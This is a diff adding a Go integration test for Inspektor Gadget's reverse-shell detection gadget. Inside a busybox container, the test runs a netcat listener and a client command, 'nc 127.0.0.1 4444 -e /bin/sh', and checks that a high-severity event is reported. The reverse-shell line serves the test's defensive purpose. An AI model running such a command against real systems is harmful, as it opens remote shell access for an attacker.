@@ -0,0 +1,138 @@
+// Copyright 2024 The Inspektor Gadget authors
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+
+package tests
+
+import (
+	"fmt"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/require"
+
+	gadgettesting "github.com/inspektor-gadget/inspektor-gadget/gadgets/testing"
+	ebpftypes "github.com/inspektor-gadget/inspektor-gadget/pkg/operators/ebpf/types"
+	igtesting "github.com/inspektor-gadget/inspektor-gadget/pkg/testing"
+	"github.com/inspektor-gadget/inspektor-gadget/pkg/testing/containers"
+	igrunner "github.com/inspektor-gadget/inspektor-gadget/pkg/testing/ig"
+	"github.com/inspektor-gadget/inspektor-gadget/pkg/testing/match"
+	"github.com/inspektor-gadget/inspektor-gadget/pkg/testing/utils"
+	eventtypes "github.com/inspektor-gadget/inspektor-gadget/pkg/types"
+)
+
+type traceReverseShellEvent struct {
+	eventtypes.CommonData
+
+	Timestamp string            `json:"timestamp"`
+	Proc      ebpftypes.Process `json:"proc"`
+	NetNsID   uint64            `json:"netns_id"`
+
+	Remote       utils.L4Endpoint `json:"remote"`
+	StdinSocket  bool             `json:"stdin_socket"`
+	StdoutSocket bool             `json:"stdout_socket"`
+	StderrSocket bool             `json:"stderr_socket"`
+	Severity     string           `json:"severity"`
+	Filename     string           `json:"filename"`
+}
+
+func TestTraceReverseShell(t *testing.T) {
+	gadgettesting.RequireEnvironmentVariables(t)
+	utils.InitTest(t)
+
+	containerFactory, err := containers.NewContainerFactory(utils.Runtime)
+	require.NoError(t, err, "new container factory")
+	containerName := "test-trace-reverse-shell"
+	containerImage := "docker.io/library/busybox:latest"
+
+	var ns string
+	containerOpts := []containers.ContainerOption{
+		containers.WithContainerImage(containerImage),
+		containers.WithStartAndStop(),
+	}
+
+	if utils.CurrentTestComponent == utils.KubectlGadgetTestComponent {
+		ns = utils.GenerateTestNamespaceName(t, "test-trace-reverse-shell")
+		containerOpts = append(containerOpts, containers.WithContainerNamespace(ns))
+	}
+
+	// The listener sends "exit" to each shell connecting to it. The shell
+	// started by nc -e has stdin, stdout and stderr bound to the socket.
+	listener := "while true ; do echo exit | nc -l -p 4444 ; done"
+	client := "while true ; do nc 127.0.0.1 4444 -e /bin/sh ; sleep 1 ; done"
+	cmd := fmt.Sprintf("%s & sleep 1 ; %s", listener, client)
+
+	testContainer := containerFactory.NewContainer(containerName, cmd, containerOpts...)
+
+	var runnerOpts []igrunner.Option
+	var testingOpts []igtesting.Option
+	commonDataOpts := []utils.CommonDataOption{
+		utils.WithContainerImageName(containerImage),
+		utils.WithContainerID(utils.NormalizedStr),
+	}
+
+	switch utils.CurrentTestComponent {
+	case utils.IgLocalTestComponent:
+		runnerOpts = append(runnerOpts, igrunner.WithFlags(fmt.Sprintf("-r=%s", utils.Runtime)))
+	case utils.KubectlGadgetTestComponent:
+		runnerOpts = append(runnerOpts, igrunner.WithFlags(fmt.Sprintf("-n=%s", ns)))
+		testingOpts = append(testingOpts, igtesting.WithCbBeforeCleanup(utils.PrintLogsFn(ns)))
+		commonDataOpts = append(commonDataOpts, utils.WithK8sNamespace(ns))
+	}
+
+	runnerOpts = append(runnerOpts,
+		igrunner.WithValidateOutput(
+			func(t *testing.T, output string) {
+				expectedEntries := []*traceReverseShellEvent{
+					{
+						CommonData: utils.BuildCommonData(containerName, commonDataOpts...),
+						Proc:       utils.BuildProc("sh", 0, 0),
+						Remote: utils.L4Endpoint{
+							Addr:    "127.0.0.1",
+							Version: 4,
+							Port:    4444,
+							Proto:   "TCP",
+						},
+						StdinSocket:  true,
+						StdoutSocket: true,
+						StderrSocket: true,
+						Severity:     "high",
+						Filename:     "/bin/sh",
+
+						// Check the existence of the following fields
+						Timestamp: utils.NormalizedStr,
+						NetNsID:   utils.NormalizedInt,
+					},
+				}
+				normalize := func(e *traceReverseShellEvent) {
+					utils.NormalizeCommonData(&e.CommonData)
+					utils.NormalizeString(&e.Runtime.ContainerID)
+					utils.NormalizeString(&e.Timestamp)
+					utils.NormalizeProc(&e.Proc)
+					utils.NormalizeInt(&e.NetNsID)
+				}
+				match.MatchEntries(t, match.JSONMultiObjectMode, output, normalize, expectedEntries...)
+			},
+		))
+
+	runnerOpts = append(runnerOpts, igrunner.WithStartAndStop())
+	traceReverseShellCmd := igrunner.New("trace_reverse_shell", runnerOpts...)
+
+	steps := []igtesting.TestStep{
+		traceReverseShellCmd,
+		// wait to ensure ig or kubectl-gadget has started
+		utils.Sleep(10 * time.Second),
+		testContainer,
+	}
+	igtesting.RunTestSteps(steps, t, testingOpts...)
+}